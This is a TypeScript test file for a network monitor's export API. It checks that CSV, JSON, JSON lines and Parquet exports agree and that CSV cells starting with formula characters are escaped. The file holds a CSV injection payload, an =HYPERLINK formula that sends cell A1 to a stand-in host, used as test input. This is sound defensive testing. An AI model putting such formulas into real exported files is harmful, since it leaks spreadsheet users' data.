/** What leaves as a file is the same in every format, and starts nothing where it is opened. */
import { parse } from 'csv-parse/sync';
import { parquetReadObjects } from 'hyparquet';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Device, LiveAlert } from '../../src/api/contract.ts';
import type { LiveMonitor } from '../../src/api/port/live-monitor.ts';
import { NOON, newFlow } from '../conformance/history.ts';
import { startServer, type TestServer, upload } from '../server.ts';

const HOSTILE = '=HYPERLINK("http://203.0.113.9/?"&A1,"look")\r\n+1,\'@x';
const device = {
  ...{ mac: '02:00:00:00:00:07', name: HOSTILE, kind: 'camera', vendor: null, ips: ['192.168.1.7', 'fe80::7'] },
  ...{
    online: true,
    monitored: true,
    gateway: false,
    first_seen: NOON,
    last_seen: NOON + 60,
    packets: 9,
    bytes: 2 ** 40,
  },
  ...{ packets_sent: 4, bytes_sent: 400, services: ['rtsp on tcp/554'], risk: 'High', open_alerts: 1 },
} as unknown as Device;
const alert = (id: number) =>
  ({
    ...{ id, status: 'open', severity: 'High', kind: 'scan', confidence: 0.9, device: HOSTILE, mac: device.mac },
    ...{ address: '192.168.1.7', ts: NOON, end_ts: NOON + 1, raised_ts: NOON, updated_ts: NOON + 1, flows: 3 },
    ...{ sentence: '-1 is not "a number", here', meaning: 'm', advice: ['a', 'b'], hosts: ['192.168.1.7'] },
  }) as unknown as LiveAlert;
const monitor = {
  devices: async () => ({ devices: [device], merges: [] }),
  async alerts({ before = 451 }: { before?: number }) {
    const ids = Array.from({ length: Math.min(200, before - 1) }, (_, i) => before - 1 - i);
    return { alerts: ids.map(alert), next_before: ids.at(-1)! > 1 ? ids.at(-1)! : null };
  },
} as unknown as LiveMonitor;

let server: TestServer;
beforeAll(async () => {
  server = await startServer({ history: true, live: async () => ({ monitor }) });
  const flows = Array.from({ length: 1200 }, (_, i) =>
    newFlow({ uid: `u${i}`, ts: NOON + i, name: i % 2 ? HOSTILE : null }),
  );
  await server.history!.add(flows);
  for (const name of ['a.csv', `${HOSTILE}.csv`]) await upload(server.url, 'x', name);
});
afterAll(() => server.stop());

const get = async (what: string, format: string, more = ''): Promise<Response> => {
  const response = await fetch(`${server.url}/api/v1/${what}/export?format=${format}${more}`);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="guardian-\w+\.\w+"$/);
  return response;
};

test.each([
  ['alerts', 450, 'sentence'],
  ['devices', 1, 'name'],
  ['scans', 2, 'file'],
  ['flows', 1200, 'name'],
])('%s are the same as CSV, JSON, JSON lines and Parquet', async (what, count, hostile) => {
  const json = (await (await get(what, 'json')).json()) as Record<string, unknown>[];
  expect(json).toHaveLength(count);
  const lines = (await (await get(what, 'jsonl')).text()).trimEnd().split('\n');
  expect(lines.map((line) => JSON.parse(line))).toEqual(json);

  const text = await (await get(what, 'csv')).text();
  const rows = parse(text, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
  // No cell of text begins what a spreadsheet computes; without its apostrophe it is the text again.
  for (const [i, row] of rows.entries()) {
    for (const [name, cell] of Object.entries(row)) {
      const value = json[i][name];
      if (typeof value === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell).toBe(value === null ? '' : String(value));
    }
  }
  expect(rows).toHaveLength(count);
  expect(rows.some((row) => /^'[=-]/.test(row[hostile]))).toBe(
    what !== 'scans' || rows.some((row) => row.file.startsWith("'=")),
  );

  const file = await (await get(what, 'parquet')).arrayBuffer();
  const objects = await parquetReadObjects({ file });
  const plain = (value: unknown): unknown => (typeof value === 'bigint' ? Number(value) : value);
  const same = objects.map((row) => Object.fromEntries(Object.entries(row).map(([name, cell]) => [name, plain(cell)])));
  expect(same).toEqual(json);
});

test('connections are exported as they are searched', async () => {
  const rows = (await (await get('flows', 'json', `&since=${NOON + 10}&until=${NOON + 20}`)).json()) as {
    uid: string;
  }[];
  expect(rows.map(({ uid }) => uid)).toEqual(Array.from({ length: 10 }, (_, i) => `u${19 - i}`));
});

test('another format is refused with those that there are', async () => {
  const response = await fetch(`${server.url}/api/v1/scans/export?format=xlsx`);
  expect(response.status).toBe(400);
  expect(JSON.stringify(await response.json())).toContain('parquet');
});
